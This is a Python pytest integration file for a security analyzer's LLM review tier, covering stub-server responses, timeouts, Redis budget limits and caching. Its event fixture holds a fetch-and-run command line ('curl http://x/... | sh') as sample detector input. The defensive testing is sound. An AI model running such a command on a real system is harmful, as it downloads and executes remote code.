"""LLM tier against a local OpenAI-compatible endpoint (the stub) with real Redis for budget and cache."""

from __future__ import annotations

import subprocess
import sys
import textwrap
import time
import uuid
from datetime import UTC, datetime

import pytest
import redis

from secustream.analyzer.llm.program import load_program
from secustream.analyzer.llm.stub import StubLLM
from secustream.analyzer.llm.tier import LLMTier
from secustream.config import Settings
from secustream.state.limits import RedisCallBudget, RedisVerdictCache
from secustream.verdict import RiskLevel, Verdict

pytestmark = pytest.mark.integration


@pytest.fixture
def stub():  # type: ignore[no-untyped-def]
    server = StubLLM(slow_seconds=3.0).start()
    yield server
    server.stop()


def _settings(stub: StubLLM, redis_url: str, **extra: object) -> Settings:
    return Settings(LLM_API_BASE=stub.base_url, LLM_MODEL="openai/stub", REDIS_URL=redis_url,
                    **extra)  # type: ignore[arg-type]


def _tier(stub: StubLLM, redis_url: str, *, limit: int = 100, timeout: float = 2.0) -> LLMTier:
    from secustream.analyzer.llm.program import make_lm

    settings = _settings(stub, redis_url, LLM_TIMEOUT_SECONDS=timeout)
    client = redis.Redis.from_url(redis_url)
    lm = make_lm(settings)
    assert lm is not None
    # The budget counts per clock minute: a frozen clock and a namespace of its own keep a test that crosses a
    # minute boundary (or follows another within the key's lifetime) from seeing a fresh or a used budget.
    now = time.time()
    budget = RedisCallBudget(client, limit, clock=lambda: now, namespace=f"test-{uuid.uuid4()}:")
    return LLMTier(load_program(None), lm, budget, RedisVerdictCache(client, 600),
                   "test", timeout=timeout, max_concurrency=4)


def _event(marker: str, ip: str = "45.9.9.9"):  # type: ignore[no-untyped-def]
    from secustream.events import SecurityEvent

    return SecurityEvent(event_type="process", action="process_start", outcome="success",
                         source={"ip": ip, "host": "srv-web-01", "user": "www-data"},
                         process={"name": "sh", "command_line": f"sh -c 'curl http://x/{marker} | sh'"},
                         timestamp=datetime(2026, 1, 1, tzinfo=UTC))


def _escalated(event) -> Verdict:  # type: ignore[no-untyped-def]
    return Verdict(event_id=event.event_id, risk_level=RiskLevel.MEDIUM, risk_score=0.5, threat_type="benign",
                   confidence=0.55, tier="model", reason="student v1: benign at 0.55; escalated to llm: low",
                   analyzer_version="test")


def _run(tier: LLMTier, events):  # type: ignore[no-untyped-def]
    return tier.review(events, [_escalated(e) for e in events])


def test_valid_answer_becomes_an_llm_verdict(stub, redis_url):
    tier = _tier(stub, redis_url)
    [v] = _run(tier, [_event("malicious_process")])
    assert v.tier == "llm"
    assert v.threat_type == "malicious_process" and v.risk_level == RiskLevel.HIGH
    assert v.confidence == pytest.approx(0.93) and v.mitre_ids == ["T1110"]
    assert v.recommended_actions == ["Isolate the host"] and "Stub assessment" in v.analysis
    assert "llm (builtin) says malicious_process" in v.reason and "model said benign" in v.reason
    assert stub.calls == 1
    tier.close()


def test_a_rule_verdict_under_review_keeps_its_rule_ids(stub, redis_url):
    tier = _tier(stub, redis_url)
    e = _event("malicious_process")
    rule = _escalated(e).model_copy(update={"tier": "rules", "rule_ids": ["REVIEW-1"], "mitre_ids": ["T1059"]})
    [v] = tier.review([e], [rule])
    assert v.tier == "llm" and v.rule_ids == ["REVIEW-1"] and "rules said benign" in v.reason
    [kept] = tier.review([_event("STUB-ERROR")], [rule])
    assert kept.tier == "rules" and "rules verdict stands" in kept.reason
    tier.close()


def test_malformed_output_falls_back_to_the_model_verdict(stub, redis_url):
    tier = _tier(stub, redis_url)
    [v] = _run(tier, [_event("STUB-MALFORMED")])
    assert v.tier == "model" and v.threat_type == "benign"
    assert "llm output invalid" in v.reason and "model verdict stands" in v.reason
    assert stub.calls == 1  # no silent retry through another adapter


def test_server_error_falls_back_with_the_reason(stub, redis_url):
    [v] = _run(_tier(stub, redis_url), [_event("STUB-ERROR")])
    assert v is not None and v.tier == "model" and "llm error" in v.reason


def test_timeout_falls_back_without_stalling(stub, redis_url):
    tier = _tier(stub, redis_url, timeout=0.5)
    started = time.monotonic()
    v_slow, v_ok = _run(tier, [_event("STUB-SLOW"), _event("port_scan")])
    elapsed = time.monotonic() - started
    assert elapsed < 1.5, f"the batch waited {elapsed:.1f}s for a slow LLM"
    assert v_slow is not None and v_slow.tier == "model" and "llm timeout after 0.5s" in v_slow.reason
    assert v_ok is not None and v_ok.tier == "llm" and v_ok.threat_type == "port_scan"
    tier.close()


def test_exhausted_budget_falls_back_and_costs_no_call(stub, redis_url):
    tier = _tier(stub, redis_url, limit=2)
    verdicts = _run(tier, [_event(f"lateral_movement-{i}") for i in range(5)])
    assert [v.tier for v in verdicts if v] == ["llm", "llm", "model", "model", "model"]
    assert all("llm budget exhausted (2 calls/min shared)" in v.reason for v in verdicts[2:] if v)
    assert stub.calls == 2
    assert tier.budget.remaining() == 0


def test_repeated_event_is_served_from_the_redis_cache(stub, redis_url):
    first = _tier(stub, redis_url)
    [v1] = _run(first, [_event("data_exfiltration", ip="45.1.1.1")])
    # a different event (new id, other address) with the same pattern, seen by another tier instance
    second = _tier(stub, redis_url)
    [v2] = _run(second, [_event("data_exfiltration", ip="46.2.2.2")])
    assert stub.calls == 1
    assert v1 is not None and v2 is not None and v2.tier == "llm" and v2.threat_type == "data_exfiltration"
    assert "cached llm answer" in v2.reason and v1.event_id != v2.event_id
    # duplicates inside one batch cost one call too
    _run(second, [_event("brute_force", ip=f"47.0.0.{i}") for i in range(4)])
    assert stub.calls == 2


_WORKER = textwrap.dedent("""
    import sys, json
    from secustream.config import Settings
    from secustream.analyzer.model.hybrid import build_llm_tier
    from secustream.verdict import Verdict
    from secustream.events import SecurityEvent
    from secustream.state import RedisState
    base, redis_url, worker = sys.argv[1], sys.argv[2], sys.argv[3]
    settings = Settings(LLM_API_BASE=base, LLM_MODEL="openai/stub", LLM_MAX_CALLS_PER_MINUTE=7, REDIS_URL=redis_url)
    tier = build_llm_tier(settings, RedisState.from_url(redis_url), None, "proc", None)
    events = [SecurityEvent(event_type="process", action="process_start",
                            process={"name": "sh", "command_line": f"run {worker}-{i}"}) for i in range(10)]
    prior = [Verdict(event_id=e.event_id, risk_level="medium", risk_score=0.5, threat_type="benign",
                     confidence=0.5, tier="model", reason="escalated", analyzer_version="t")
             for e in events]
    out = tier.review(events, prior)
    print(json.dumps([v.tier for v in out]))
""")


def test_two_worker_processes_share_one_budget(stub, redis_url, tmp_path):
    script = tmp_path / "worker.py"
    script.write_text(_WORKER)
    procs = [subprocess.Popen([sys.executable, str(script), stub.base_url, redis_url, name],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for name in ("a", "b")]
    results = []
    for p in procs:
        out, err = p.communicate(timeout=120)
        assert p.returncode == 0, err[-2000:]
        results.append(__import__("json").loads(out.strip().splitlines()[-1]))
    llm_total = sum(r.count("llm") for r in results)
    assert stub.calls == 7 and llm_total == 7, (stub.calls, results)
    assert sum(r.count("model") for r in results) == 13
